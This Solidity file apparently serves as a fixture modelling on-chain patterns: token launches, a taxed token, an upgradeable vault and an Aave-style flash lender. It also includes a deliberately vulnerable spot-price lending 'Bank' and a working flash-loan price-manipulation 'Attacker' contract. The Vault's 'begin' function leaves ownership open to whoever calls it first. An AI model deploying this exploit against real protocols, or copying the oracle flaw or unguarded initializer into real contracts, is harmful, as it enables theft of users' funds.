// SPDX-License-Identifier: Apache-2.0
// What launches, upgrades and attacks are made of, in the shapes that mainnet has: OpenZeppelin's token and proxy as they
// are, a lender with Aave V3's flash loan, a bank that believes a pair's price, and who takes advantage of it.
pragma solidity ^0.8.20;

import "@openzeppelin/contracts/token/ERC20/ERC20.sol";
import "@openzeppelin/contracts/access/Ownable.sol";
import "@openzeppelin/contracts/proxy/ERC1967/ERC1967Proxy.sol";
import "@openzeppelin/contracts/proxy/utils/UUPSUpgradeable.sol";

/// A token as launches have it: all of it belongs to who deploys it.
contract Coin is ERC20, Ownable {
    constructor() ERC20("Coin", "COIN") Ownable(msg.sender) {
        _mint(msg.sender, 1_000_000 ether);
    }
}

/// A factory of tokens: the caller owns what it makes.
contract CoinFactory {
    event TokenCreated(address indexed token, address indexed owner);

    function create() external returns (address) {
        Coin made = new Coin();
        made.transfer(msg.sender, made.totalSupply());
        made.transferOwnership(msg.sender);
        emit TokenCreated(address(made), msg.sender);
        return address(made);
    }
}

/// A tax of 5 % on what is bought or sold, for the owner's other wallet.
contract TaxedCoin is ERC20 {
    address public immutable treasury;
    mapping(address => bool) public pair;
    address private immutable maker = msg.sender;

    constructor(address treasury_) ERC20("Taxed", "TAX") {
        treasury = treasury_;
        _mint(msg.sender, 1_000_000 ether);
    }

    function setPair(address which) external {
        require(msg.sender == maker);
        pair[which] = true;
    }

    function _update(address from, address to, uint256 value) internal override {
        if ((pair[from] || pair[to]) && from != maker && to != maker) {
            uint256 tax = value / 20;
            super._update(from, treasury, tax);
            value -= tax;
        }
        super._update(from, to, value);
    }
}

contract Vault is UUPSUpgradeable, Ownable {
    constructor() Ownable(msg.sender) {}

    function begin(address owner_) external {
        require(owner() == address(0));
        _transferOwnership(owner_);
    }

    function _authorizeUpgrade(address) internal override onlyOwner {}
}

/// What holds a lender's assets: on Aave that is a contract of its own, not the one that says FlashLoan.
contract AToken {
    IERC20 public immutable asset;
    address public immutable pool = msg.sender;

    constructor(IERC20 asset_) {
        asset = asset_;
    }

    function transferUnderlyingTo(address to, uint256 amount) external {
        require(msg.sender == pool);
        asset.transfer(to, amount);
    }
}

interface IFlashLoanSimpleReceiver {
    function executeOperation(address asset, uint256 amount, uint256 premium, address initiator, bytes calldata params)
        external returns (bool);
}

/// aave-v3-core Pool.flashLoanSimple: lends, calls back, takes amount and premium, says so.
contract Lender {
    event FlashLoan(address indexed target, address initiator, address indexed asset, uint256 amount,
                    uint8 interestRateMode, uint256 premium, uint16 indexed referralCode);
    AToken public immutable aToken;

    constructor(IERC20 asset) {
        aToken = new AToken(asset);
    }

    function flashLoanSimple(address receiver, address asset, uint256 amount, bytes calldata params, uint16 code) external {
        uint256 premium = amount * 5 / 10_000;
        aToken.transferUnderlyingTo(receiver, amount);
        require(IFlashLoanSimpleReceiver(receiver).executeOperation(asset, amount, premium, msg.sender, params));
        IERC20(asset).transferFrom(receiver, address(aToken), amount + premium);
        emit FlashLoan(receiver, msg.sender, asset, amount, 0, premium, code);
    }
}

interface IPair {
    function token0() external view returns (address);
    function getReserves() external view returns (uint112, uint112, uint32);
    function swap(uint256 amount0Out, uint256 amount1Out, address to, bytes calldata data) external;
}

library Price {
    function reserves(IPair pair, address token) internal view returns (uint256 ofToken, uint256 other) {
        (uint112 a, uint112 b, ) = pair.getReserves();
        return pair.token0() == token ? (uint256(a), uint256(b)) : (uint256(b), uint256(a));
    }
}

/// The victim: lends 80 % of what a pair says that the coin is worth.
contract Bank {
    IPair public immutable pair;
    IERC20 public immutable coin;
    IERC20 public immutable money;

    constructor(IPair pair_, IERC20 coin_, IERC20 money_) {
        (pair, coin, money) = (pair_, coin_, money_);
    }

    function borrow(uint256 coins) external {
        (uint256 ofCoin, uint256 ofMoney) = Price.reserves(pair, address(coin));
        coin.transferFrom(msg.sender, address(this), coins);
        money.transfer(msg.sender, coins * ofMoney / ofCoin * 8 / 10);
    }
}

/// Borrows, buys until the coin is dear, pledges some of it, sells the rest, repays.
contract Attacker is IFlashLoanSimpleReceiver {
    address private immutable owner = msg.sender;
    Lender private immutable lender;
    Bank private immutable bank;

    constructor(Lender lender_, Bank bank_) {
        (lender, bank) = (lender_, bank_);
    }

    function attack(uint256 loan) external {
        require(msg.sender == owner);
        lender.flashLoanSimple(address(this), address(bank.money()), loan, "", 0);
        bank.money().transfer(owner, bank.money().balanceOf(address(this)));
    }

    function executeOperation(address asset, uint256 amount, uint256 premium, address, bytes calldata)
        external returns (bool) {
        _swap(asset, amount * 2 / 3);
        uint256 coins = bank.coin().balanceOf(address(this));
        bank.coin().approve(address(bank), coins / 6);
        bank.borrow(coins / 6);
        _swap(address(bank.coin()), coins - coins / 6);
        IERC20(asset).approve(address(lender), amount + premium);
        return true;
    }

    function _swap(address from, uint256 amount) private {
        IPair pair = bank.pair();
        (uint256 ofFrom, uint256 other) = Price.reserves(pair, from);
        uint256 out = amount * 997 * other / (ofFrom * 1000 + amount * 997);
        IERC20(from).transfer(address(pair), amount);
        bool zero = pair.token0() == from;
        pair.swap(zero ? 0 : out, zero ? out : 0, address(this), "");
    }
}
